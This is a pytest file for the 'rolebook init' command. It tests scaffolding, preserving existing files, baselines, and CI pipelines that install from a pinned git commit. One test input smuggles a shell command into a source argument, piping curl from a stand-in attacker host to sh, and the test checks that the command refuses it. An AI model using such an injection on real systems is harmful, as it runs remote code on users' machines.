"""`rolebook init`: nothing that cannot work, and nothing of a user's touched."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from importlib.metadata import Distribution
from pathlib import Path

import pytest
import yaml
from click.testing import Result
from tests.rolebook.commands.libraries import clean, giving

from rolebook.hosting import pinned
from rolebook.hosting.scaffold import PIPELINES

Run = Callable[..., Result]

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SOURCE = f"git+https://git.example.org/rolebook/rolebook@{COMMIT}"


def texts(folder: Path) -> dict[str, str]:
    return {
        path.relative_to(folder).as_posix(): path.read_text("utf-8")
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_an_empty_folder_gets_an_example_without_a_finding(tmp_path: Path, at: Run) -> None:
    begun = at(tmp_path, "init")
    assert begun.exit_code == 0
    assert {"roles/support/support-agent.md", "atlases/support-agent.yml"} <= {*texts(tmp_path)}
    checked = at(tmp_path, "check", "--strict")
    assert checked.exit_code == 0
    assert checked.stdout.endswith(": no problems\n")


def test_what_is_there_stays(tmp_path: Path, at: Run) -> None:
    (tmp_path / "roles/shop").mkdir(parents=True)
    (tmp_path / "roles/shop/baker.md").write_text(clean("baker"), "utf-8")
    for name in ("Makefile", ".gitignore", ".woodpecker.yml"):
        (tmp_path / name).write_text("mine\n", "utf-8")
    before = texts(tmp_path)
    begun = at(tmp_path, "init", "--from", SOURCE)
    assert "kept  Makefile" in begun.stdout
    assert texts(tmp_path).items() >= before.items()
    assert "roles/support" not in str(texts(tmp_path).keys())
    again = texts(tmp_path)
    at(tmp_path, "init", "--from", SOURCE)
    assert texts(tmp_path) == again


def test_a_collection_with_findings_gets_a_baseline_that_holds_them(
    tmp_path: Path, at: Run
) -> None:
    (tmp_path / "roles/sales").mkdir(parents=True)
    (tmp_path / "roles/sales/ae.md").write_text(giving("ae", "nobody-here"), "utf-8")
    begun = at(tmp_path, "init")
    assert "it holds the findings of today (1 error" in begun.stdout
    config = yaml.safe_load((tmp_path / "mkdocs.yml").read_text("utf-8"))
    assert config["plugins"][1]["rolebook"] == {"roles": "roles", "baseline": "baseline.json"}
    assert at(tmp_path, "check", "--strict").exit_code == 0
    (tmp_path / "roles/sales/am.md").write_text(giving("am", "nobody-else"), "utf-8")
    assert at(tmp_path, "check").exit_code == 1


@pytest.mark.parametrize(
    ("config", "added"),
    [
        ("site_name: x\n", ["search", {"rolebook": {"roles": "roles"}}]),
        ("site_name: x\nplugins: [tags]\n", [{"rolebook": {"roles": "roles"}}]),
    ],
)
def test_an_existing_site_is_told_the_lines_to_add(
    tmp_path: Path, at: Run, config: str, added: list[object]
) -> None:
    (tmp_path / "roles").mkdir()
    (tmp_path / "roles/ae.md").write_text(clean("ae"), "utf-8")
    (tmp_path / "mkdocs.yml").write_text(config, "utf-8")
    begun = at(tmp_path, "init")
    _, _, told = begun.stdout.partition("add to mkdocs.yml:\n\n")
    assert yaml.safe_load(told.partition("\n\n")[0]) == {"plugins": added}
    assert (tmp_path / "mkdocs.yml").read_text("utf-8") == config
    assert not (tmp_path / "baseline.json").exists()


@pytest.mark.parametrize("ci", sorted(PIPELINES))
def test_a_pipeline_installs_from_a_pinned_source_and_is_valid(
    tmp_path: Path, at: Run, ci: str
) -> None:
    begun = at(tmp_path, "init", "--ci", ci, "--from", SOURCE)
    assert f"{PIPELINES[ci]} installs Rolebook from {SOURCE}" in begun.stdout
    text = (tmp_path / PIPELINES[ci]).read_text("utf-8")
    assert f"pip install 'rolebook @ {SOURCE}'" in text
    assert "{source}" not in text
    schemas = {"woodpecker": "woodpecker-ci", "gitlab": "gitlab-ci"}
    schema = f"vendor.{schemas.get(ci, 'github-workflows')}"
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema]
    transform = ["--data-transform", "gitlab-ci"] if ci == "gitlab" else []
    checked = subprocess.run(
        [*command, *transform, tmp_path / PIPELINES[ci]],
        capture_output=True,
        text=True,
        check=False,
    )
    assert checked.returncode == 0, checked.stdout


def test_without_a_source_there_is_no_pipeline_and_no_bare_name(tmp_path: Path, at: Run) -> None:
    begun = at(tmp_path, "init")
    assert "no pipeline is written: `rolebook init --from SOURCE` says" in begun.stdout
    assert not any("pip install" in text for text in texts(tmp_path).values())


def test_the_source_that_this_was_installed_from_is_taken(
    tmp_path: Path, at: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = {
        "url": "https://git.example.org/rolebook/rolebook",
        "vcs_info": {"vcs": "git", "commit_id": COMMIT},
    }

    class Installed(Distribution):
        def read_text(self, filename: str) -> str:
            return json.dumps(told)

        def locate_file(self, path: object) -> Path:
            return tmp_path

    monkeypatch.setattr(pinned, "distribution", lambda name: Installed())
    assert f"installs Rolebook from {SOURCE}" in at(tmp_path, "init").stdout


@pytest.mark.parametrize(
    "source",
    [
        "rolebook",
        "rolebook==1.0",
        "git+https://git.example.org/rolebook/rolebook",
        "git+https://git.example.org/rolebook/rolebook@main",
        f"{SOURCE}' && curl https://evil.example | sh '",
        "./rolebook",
    ],
)
def test_a_source_that_anybody_could_change_is_refused(
    tmp_path: Path, at: Run, source: str
) -> None:
    begun = at(tmp_path, "init", "--from", source)
    assert begun.exit_code == 2
    assert "is no pinned source" in begun.stderr
    assert texts(tmp_path) == {}


@pytest.mark.parametrize(
    ("remote", "expected"),
    [
        ("https://github.com/x/y", ".github/workflows/rolebook.yml"),
        ("git@gitlab.com:x/y.git", ".gitlab-ci.yml"),
        ("https://git.example.org/x/y", ".woodpecker.yml"),
    ],
)
def test_the_pipeline_is_that_of_the_place_a_repository_is_pushed_to(
    tmp_path: Path, at: Run, remote: str, expected: str
) -> None:
    subprocess.run(["git", "init", "-q", tmp_path], check=True)
    subprocess.run(["git", "-C", tmp_path, "remote", "add", "origin", remote], check=True)
    at(tmp_path, "init", "--from", SOURCE)
    assert (tmp_path / expected).is_file()
